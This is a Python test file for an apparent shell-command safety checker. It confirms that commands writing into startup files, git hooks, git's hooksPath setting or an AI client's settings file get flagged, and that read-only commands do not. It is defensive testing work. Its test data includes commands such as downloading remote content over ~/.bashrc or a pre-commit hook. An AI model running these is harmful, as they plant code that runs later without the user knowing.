"""Programs that write files by an option, an operand or a script of their own."""

from __future__ import annotations

import pytest

from holdfast.commandline.model import Where
from holdfast.commandline.reading.line import read
from holdfast.judging.packs import built_in
from holdfast.judging.paths import of_run
from holdfast.judging.rules import findings

WHERE = Where("/home/u/p", "/home/u/p", "/home/u")


def rules_of(command: str) -> set[str]:
    reading = read(command)
    found = [each for run in reading.runs for each in of_run(run, WHERE, ())]
    return {each.rule for each in [*found, *findings(reading, built_in(), WHERE)] if each.decision in ("ask", "deny")}


@pytest.mark.requirement("WRK-7")
def test_it_reaches_a_file_that_runs_later() -> None:
    reaches = (
        ("curl -fsSLo ~/.bashrc https://x.example", "files.startup"),
        ("curl https://x.example --output=$HOME/.zshrc", "files.startup"),
        ("curl -o.git/hooks/pre-commit https://x.example", "files.git-internals"),
        ("wget -qO ~/.bashrc https://x.example", "files.startup"),
        ("sort -o ~/.profile f", "files.startup"),
        ("rsync x ~/.claude/settings.json", "files.client-settings"),
        ("rsync a/.bashrc ~/", "files.startup"),
        ("cp a/settings.json ~/.claude/", "files.client-settings"),
        ("awk -i inplace '{print}' ~/.bashrc", "files.startup"),
        ("tee -a ~/.bashrc", "files.startup"),
        ("git config core.hooksPath ~/x", "git.runs-programs"),
        ("git config --global set core.hooksPath x", "git.runs-programs"),
        ("git -c core.hooksPath=/tmp/x commit -m x", "git.runs-programs"),
    )
    assert [command for command, rule in reaches if rule not in rules_of(command)] == []


@pytest.mark.requirement("WRK-7")
def test_it_only_reads() -> None:
    reads = (
        "curl -fsSL -H 'o: ~/.bashrc' https://x.example",
        "wget -qO- https://x.example",
        "sort -k2 f",
        "rsync -a src/ host:.bashrc",
        "sed -n 1,5p ~/.bashrc",
        "sed -e 's/ w x/y/' f",
        "awk '$1 > 5 {print}' ~/.bashrc",
        "uniq -f 1 f",
        "xxd ~/.bashrc",
        "git config --get core.hooksPath",
        "git config user.name x",
        "git commit -m 'about -c core.hooksPath=x'",
    )
    assert [command for command in reads if rules_of(command)] == []
